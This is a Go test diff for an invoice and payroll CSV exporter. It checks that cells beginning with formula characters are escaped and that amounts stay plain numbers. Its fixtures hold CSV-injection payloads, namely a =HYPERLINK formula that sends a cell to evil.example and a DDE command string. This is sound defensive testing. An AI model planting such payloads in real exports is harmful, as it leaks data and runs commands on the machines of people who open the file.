@@ -275,3 +275,177 @@ func TestWriteFile(t *testing.T) {
 		t.Errorf("FileName = %s", export.FileName(invoice(4), "pdf"))
 	}
 }
+
+// hyperlink is an officer's name as an attacker would set it: a spreadsheet
+// opening the CSV would send the next cell to evil.example.
+const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Alyssa")`
+
+// dangerous reports a cell a spreadsheet would read as a formula (OWASP).
+func dangerous(cell string) bool {
+	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
+}
+
+// checkCells parses a CSV back and checks every cell: a text column never
+// starts with a formula character; a numeric column (numeric[name]) holds a
+// plain number, negative ones included.
+func checkCells(t *testing.T, data []byte, numeric map[string]bool) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("the CSV does not parse back: %v\n%s", err, data)
+	}
+	number := regexp.MustCompile(`^-?\d+(\.\d+)?(/\d+\.\d+)?$|^-?\d+:\d\d$|^$`)
+	for i, r := range rows[1:] {
+		for k, cell := range r {
+			name := rows[0][k]
+			switch {
+			case numeric[name] && !number.MatchString(cell):
+				t.Errorf("row %d, %s = %q: not a plain number", i+1, name, cell)
+			case !numeric[name] && dangerous(cell):
+				t.Errorf("row %d, %s = %q: a spreadsheet would run it", i+1, name, cell)
+			}
+		}
+	}
+	return rows
+}
+
+func TestTextCell(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{hyperlink, "'" + hyperlink},
+		{"+SUM(A1)", "'+SUM(A1)"},
+		{"-2+3", "'-2+3"},
+		{"@cmd", "'@cmd"},
+		{"=1+1", "'=1+1"},
+		{"  =1+1", "'=1+1"}, // spaces trimmed first: the = leads
+		{"\tx", "x"},        // tab and CR are dropped with the other controls
+		{"\rx", "x"},
+		{"\t=cmd", "'=cmd"},
+		{"\x1b]0;t\x07=cmd", "'=cmd"}, // an escape sequence hides nothing
+		{"\u202e=cmd", "'=cmd"},
+		{"Valley Fair Mall", "Valley Fair Mall"},
+		{"José Núñez", "José Núñez"},
+		{"a=b", "a=b"},
+		{"12.50", "12.50"},
+		{"", ""},
+	} {
+		got := export.TextCell(c.in)
+		if got != c.want {
+			t.Errorf("TextCell(%q) = %q, want %q", c.in, got, c.want)
+		}
+		if dangerous(got) {
+			t.Errorf("TextCell(%q) = %q still starts a formula", c.in, got)
+		}
+	}
+}
+
+// CSV injection: names, sites and descriptions that a spreadsheet would run
+// come out neutralised with a leading ', while amounts stay plain numbers,
+// negative ones too.
+func TestInvoiceCSVInjection(t *testing.T) {
+	inv := invoice(4)
+	inv.CustomerName = `=cmd|' /C calc'!A0`
+	inv.Lines[0].Officer = hyperlink
+	inv.Lines[0].Site = "+SUM(A1)"
+	inv.Lines[0].Description = "@cmd"
+	inv.Lines[1].Site = "-2+3"
+	inv.Lines[1].Description = "\tx"
+	inv.Lines[2].Site = "\rx"
+	inv.Lines[3].Description = "-2+3"
+	credit := store.InvoiceLine{Seq: 5, Kind: "fee", JobID: 3, Day: day("2026-12-16"), Site: "@site", Class: "fee", Count: 1,
+		Amount: dec("-12.50"), OfficerPay: dec("-10.00"), AdminFee: dec("-2.50"), Description: "=credit, job #3"}
+	inv.Lines = append(inv.Lines, credit)
+	inv.Subtotal = inv.Subtotal.Add(credit.Amount)
+	inv.Total = inv.Subtotal
+	var b bytes.Buffer
+	if err := export.InvoiceCSV(&b, inv); err != nil {
+		t.Fatal(err)
+	}
+	rows := checkCells(t, b.Bytes(), map[string]bool{"line": true, "count": true,
+		"minutes": true, "hours": true, "rate": true, "amount": true, "officer_pay": true, "admin_fee": true})
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	for _, c := range []struct {
+		row  int
+		name string
+		want string
+	}{
+		{1, "account", `'=cmd|' /C calc'!A0`},
+		{1, "officer", "'" + hyperlink},
+		{1, "site", "'+SUM(A1)"},
+		{1, "description", "'@cmd"},
+		{2, "site", "'-2+3"},
+		{2, "description", "x"},
+		{3, "site", "x"},
+		{4, "description", "'-2+3"},
+		{5, "site", "'@site"},
+		{5, "description", "'=credit, job #3"},
+		{5, "amount", "-12.50"}, // a number, not text: no quote
+		{5, "officer_pay", "-10.00"},
+		{5, "admin_fee", "-2.50"},
+		{1, "amount", "228.00"},
+	} {
+		if got := rows[c.row][col[c.name]]; got != c.want {
+			t.Errorf("row %d %s = %q, want %q", c.row, c.name, got, c.want)
+		}
+	}
+	sum := decimal.Zero
+	for _, r := range rows[1:] {
+		sum = sum.Add(dec(r[col["amount"]]))
+	}
+	if !sum.Equal(inv.Total) {
+		t.Errorf("amounts add up to %s, total %s", sum, inv.Total)
+	}
+}
+
+func TestPayrollCSVInjection(t *testing.T) {
+	p := store.Payroll{Start: day("2026-12-07"), End: day("2026-12-21"), Total: dec("187.50")}
+	p.Officers = []store.OfficerPay{
+		{Officer: store.Officer{ID: 1, Badge: "-WV1702", FirstName: hyperlink}, Total: dec("187.50"), Lines: []store.PayLine{
+			{OfficerID: 1, JobID: 1, PositionID: 1, Kind: "shift", Day: day("2026-12-08"), Customer: "+SUM(A1)", Site: "@cmd", Class: "officer",
+				Minutes: 240, Rate: "50.00", Amount: dec("200.00")},
+			{OfficerID: 1, JobID: 2, PositionID: 2, Kind: "adjustment", Day: day("2026-11-30"), Customer: "-2+3", Site: "\tx", Class: "\rx",
+				Minutes: -15, Rate: "50.00", Amount: dec("-12.50")},
+		}},
+	}
+	var b bytes.Buffer
+	if err := export.PayrollCSV(&b, p); err != nil {
+		t.Fatal(err)
+	}
+	rows := checkCells(t, b.Bytes(), map[string]bool{"job": true, "minutes": true, "hours": true,
+		"rate": true, "amount": true})
+	if len(rows) != 3 {
+		t.Fatalf("rows %q", rows)
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	for _, c := range []struct {
+		row        int
+		name, want string
+	}{
+		{1, "officer", "'" + hyperlink},
+		{1, "badge", "'-WV1702"},
+		{1, "customer", "'+SUM(A1)"},
+		{1, "site", "'@cmd"},
+		{2, "customer", "'-2+3"},
+		{2, "site", "x"},
+		{2, "class", "x"},
+		{2, "minutes", "-15"},
+		{2, "hours", "-0:15"},
+		{2, "amount", "-12.50"},
+	} {
+		if got := rows[c.row][col[c.name]]; got != c.want {
+			t.Errorf("row %d %s = %q, want %q", c.row, c.name, got, c.want)
+		}
+	}
+	sum := decimal.Zero
+	for _, r := range rows[1:] {
+		sum = sum.Add(dec(r[col["amount"]]))
+	}
+	if !sum.Equal(p.Total) {
+		t.Errorf("amounts add up to %s, total %s", sum, p.Total)
+	}
+}
